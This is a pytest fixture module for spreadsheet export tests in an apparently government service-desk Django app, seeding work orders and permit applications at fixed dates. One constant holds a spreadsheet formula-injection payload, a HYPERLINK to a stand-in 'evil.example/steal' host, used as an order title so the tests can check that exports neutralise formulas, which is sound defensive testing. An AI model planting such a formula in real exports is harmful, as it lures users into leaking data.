"""Helpers for the export tests: a logged-in GET, and the workbook of a response."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import datetime
from types import SimpleNamespace
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from govdesk.applications.tests.factories import fake_pdf, hall
from govdesk.org.tests.factories import login_verified
from govdesk.workorders.states import Status
from govdesk.workorders.tests.factories import make_order

# The applications' service hall and stand-in notice renderer (applications are the lower app driven here).
__all__ = ["fake_pdf", "hall"]

SHANGHAI = ZoneInfo("Asia/Shanghai")
INJECTION = '=HYPERLINK("http://evil.example/steal","点我")'
# Orders are made at this moment (a Monday, working hours) so dates and periods are fixed.
MOMENT = datetime(2026, 10, 12, 10, 0, tzinfo=SHANGHAI)


@pytest.fixture
def get_as() -> Callable[..., Any]:
    def get(user: Any, url: str, **params: Any) -> Any:
        client = Client()
        if user is not None:
            login_verified(client, user)  # a 403 must come from the role, not the second factor
        return client.get(url, params)

    return get


def grant_export_unmasked(*users: Any) -> None:
    """What the security administrator does for an account that needs full phone numbers in exports."""
    from django.contrib.auth.models import Permission

    permission = Permission.objects.get(content_type__app_label="reports", codename="export_unmasked")
    for user in users:
        user.user_permissions.add(permission)


def workbook_of(response: Any) -> Workbook:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(body))


def body_of(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else bytes(response.content)


@pytest.fixture
def orders(people: SimpleNamespace, district: SimpleNamespace, categories: SimpleNamespace) -> SimpleNamespace:
    with time_machine.travel(datetime(2026, 9, 1, 10, 0, tzinfo=SHANGHAI), tick=False):
        new = make_order(people, district, categories.facilities, Status.NEW, title=INJECTION)
    with time_machine.travel(datetime(2026, 9, 8, 10, 0, tzinfo=SHANGHAI), tick=False):
        handling = make_order(people, district, categories.housing, Status.HANDLING, title="+86 来电 @住建")
        wages = make_order(
            people,
            district,
            categories.wages,
            Status.DISPATCHED,
            unit=district.dept_b,
            handler=people.handler_b,
            channel="web",
            citizen_phone="13900001111",
            citizen_name="李四",
            confidential=True,
        )
    with time_machine.travel(datetime(2026, 9, 15, 10, 0, tzinfo=SHANGHAI), tick=False):
        closed = make_order(people, district, categories.bus, Status.CLOSED, title="公交改线")
    return SimpleNamespace(new=new, handling=handling, wages=wages, closed=closed)


@pytest.fixture
def gov_october(
    hall: SimpleNamespace, people: SimpleNamespace, district: SimpleNamespace, fake_pdf: Any
) -> SimpleNamespace:
    """October 2026's applications, through the real services (promised limit 5 working days):

    - on_time: permit (区住建局), accepted 12th, approved 14th (deadline 19th), delivered 15th;
    - late: permit, accepted 12th, approved 26th (deadline 19th), delivered 27th;
    - suspended: permit, accepted 13th, suspended 14th–16th (2 working days, deadline 20th → 22nd), denied 21st,
      delivered 22nd;
    - overdue: 就业创业证申领 (区人社局), accepted 12th, still being handled (deadline 19th);
    - refused: permit, refused at the window on the 12th;
    - online: 即办件 filed online by the citizen on the 13th, accepted and approved at once, delivered electronically.

    Ratings on the 28th (the pad): on_time 5, suspended 4, refused 3, late 2 (justified; answered on the 29th),
    online 1 (found unjustified).
    """
    from govdesk.applications import services as applications
    from govdesk.applications.tests.factories import INSTANT_CODE, OTHER_UNIT_CODE, submission
    from govdesk.evaluations import services as evaluations
    from govdesk.evaluations.models import Rectification

    complete = ["M01", "M02", "M03"]

    def at(day: int, hour: int = 10, minute: int = 0) -> Any:
        return time_machine.travel(datetime(2026, 10, day, hour, minute, tzinfo=SHANGHAI), tick=False)

    def accepted(day: int, minute: int, **overrides: Any) -> Any:
        with at(day, 10, minute):
            application = applications.application_submit(
                actor=hall.clerk, data=submission(materials=complete, **overrides)
            )
            applications.application_accept(application=application.number, actor=hall.clerk)
        return application.number

    on_time, late = accepted(12, 0), accepted(12, 5)
    overdue = accepted(12, 10, matter=OTHER_UNIT_CODE, applicant_phone="13800009999")
    suspended = accepted(13, 0)
    with at(12, 11):
        refused = applications.application_submit(actor=hall.clerk, data=submission(materials=["M01"])).number
        applications.application_refuse(application=refused, actor=hall.clerk, reason="不属于本机关职权范围")
    with at(13, 11):
        online = applications.application_submit(
            actor=people.citizen,
            data=submission(matter=INSTANT_CODE, channel="online", materials=complete, applicant_name="王小明"),
        ).number
        applications.application_accept(application=online, actor=hall.clerk)
        applications.application_deliver(application=online, actor=hall.clerk, delivery="electronic")
    with at(14):
        applications.application_approve(application=on_time, actor=people.handler_a)
        applications.application_suspend(application=suspended, actor=people.handler_a, reason="组织专家评审")
    with at(15):
        applications.application_deliver(application=on_time, actor=hall.clerk)
    with at(16):
        applications.application_resume(application=suspended, actor=people.handler_a)
    with at(21):
        applications.application_deny(application=suspended, actor=people.handler_a, reason="不符合条件")
    with at(22):
        applications.application_deliver(application=suspended, actor=hall.clerk)
    with at(26):
        applications.application_approve(application=late, actor=people.handler_a)
    with at(27):
        applications.application_deliver(application=late, actor=hall.clerk)
    with at(28):
        for number, level in ((on_time, 5), (suspended, 4), (refused, 3), (late, 2), (online, 1)):
            evaluations.evaluation_create(case=number, level=level, channel="pad", actor=hall.clerk)
        justified = Rectification.objects.get(evaluation__case__number=late)
        unjustified = Rectification.objects.get(evaluation__case__number=online)
        evaluations.rectification_verify(number=justified.number, actor=people.supervisor, justified=True)
        evaluations.rectification_verify(
            number=unjustified.number, actor=people.supervisor, justified=False, note="办件已按时办结"
        )
    with at(29):
        evaluations.rectification_answer(number=justified.number, actor=people.handler_a, answer="已优化审批流程。")
    return SimpleNamespace(
        on_time=on_time, late=late, suspended=suspended, overdue=overdue, refused=refused, online=online
    )
